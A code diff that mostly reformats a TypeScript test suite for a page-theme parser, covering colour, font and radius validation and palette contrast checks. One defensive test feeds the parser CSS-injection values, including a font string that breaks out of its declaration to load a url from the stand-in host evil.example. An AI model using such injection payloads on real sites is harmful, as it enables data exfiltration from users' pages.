@@ -8,11 +8,18 @@ const WHITE: Rgb = [1, 1, 1];
 const BLACK: Rgb = [0, 0, 0];
 const DARK: Rgb = [0.082, 0.098, 0.11];
 
-/** The two palettes as they are drawn: the rule for every page, and the one for a dark system with what it leaves as it was. */
+/**
+ * The two palettes as they are drawn: the rule for every page, and the one for a dark system with
+ * what it leaves as it was.
+ */
 const [LIGHT_TOKENS, DARK_TOKENS] = tokens.cssText.split('@media') as [string, string];
 const PALETTES = [
   { line: '--theme-line', tintPart: 0.07, token: (name: string) => hexToken(LIGHT_TOKENS, name) },
-  { line: '--theme-line-dark', tintPart: 0.12, token: (name: string) => hexToken(DARK_TOKENS, name) },
+  {
+    line: '--theme-line-dark',
+    tintPart: 0.12,
+    token: (name: string) => hexToken(DARK_TOKENS, name),
+  },
 ];
 
 describe('theme', () => {
@@ -24,7 +31,9 @@ describe('theme', () => {
   afterEach(() => probe.remove());
 
   it('takes a colour in any notation, a length and font names', () => {
-    expect(parseTheme({ accent: '#0b6b4f', radius: '0.5rem', font: "'Open Sans', Arial" }, probe)).to.deep.equal({
+    expect(
+      parseTheme({ accent: '#0b6b4f', radius: '0.5rem', font: "'Open Sans', Arial" }, probe),
+    ).to.deep.equal({
       '--theme-fill': 'rgb(11 107 79)',
       '--theme-on-fill': '#fff',
       '--theme-shade': '#000',
@@ -40,12 +49,28 @@ describe('theme', () => {
 
   it('drops whatever else a page sends (T22)', () => {
     const font = 'x;} input{background:url(https://evil.example/?';
-    expect(parseTheme({ accent: 'url(https://evil.example/)', radius: 'calc(1px)', font }, probe)).to.deep.equal({});
-    for (const accent of ['var(--x)', 'inherit', 'transparent', '#0b6b4f80', 'red;', '', 'x'.repeat(10_000), 7, null]) {
+    expect(
+      parseTheme({ accent: 'url(https://evil.example/)', radius: 'calc(1px)', font }, probe),
+    ).to.deep.equal({});
+    for (const accent of [
+      'var(--x)',
+      'inherit',
+      'transparent',
+      '#0b6b4f80',
+      'red;',
+      '',
+      'x'.repeat(10_000),
+      7,
+      null,
+    ]) {
       expect(parseTheme({ accent }, probe), String(accent)).to.deep.equal({});
     }
-    expect([' ', 'a,,b', 'a"b', 'url(x)', 'a\\62', '-'.repeat(201), undefined].map(findFont)).to.deep.equal(Array(7).fill(undefined));
-    expect(['-1px', '1e3px', '1', 'x', '', null].map(findRadius)).to.deep.equal(Array(6).fill(undefined));
+    expect(
+      [' ', 'a,,b', 'a"b', 'url(x)', 'a\\62', '-'.repeat(201), undefined].map(findFont),
+    ).to.deep.equal(Array(7).fill(undefined));
+    expect(['-1px', '1e3px', '1', 'x', '', null].map(findRadius)).to.deep.equal(
+      Array(6).fill(undefined),
+    );
     expect(findRadius('900px')).to.equal(24);
     expect(findRadius('0')).to.equal(0);
   });
@@ -64,7 +89,8 @@ describe('theme', () => {
         for (const { line, tintPart, token } of PALETTES) {
           const drawn = rgbOf(theme[line]!);
           const tint = mix(token('surface'), drawn, tintPart);
-          for (const surface of [token('surface'), token('soft'), tint]) expect(contrast(drawn, surface)).to.be.at.least(3);
+          for (const surface of [token('surface'), token('soft'), tint])
+            expect(contrast(drawn, surface)).to.be.at.least(3);
           expect(contrast(token('text'), tint)).to.be.at.least(4.5);
         }
       }),
@@ -76,11 +102,13 @@ describe('theme', () => {
     for (const { token } of PALETTES) {
       const at = (one: string, other: string) => contrast(token(one), token(other));
       for (const surface of ['surface', 'soft']) {
-        for (const text of ['text', 'quiet', 'wrong', 'waiting']) expect(at(text, surface), `${text} on ${surface}`).to.be.at.least(4.5);
+        for (const text of ['text', 'quiet', 'wrong', 'waiting'])
+          expect(at(text, surface), `${text} on ${surface}`).to.be.at.least(4.5);
         expect(at('boundary', surface), `boundary on ${surface}`).to.be.at.least(3);
       }
       for (const tone of ['wrong', 'waiting']) {
-        for (const text of ['text', tone]) expect(at(text, `${tone}-tint`), `${text} on ${tone}-tint`).to.be.at.least(4.5);
+        for (const text of ['text', tone])
+          expect(at(text, `${tone}-tint`), `${text} on ${tone}-tint`).to.be.at.least(4.5);
       }
     }
   });
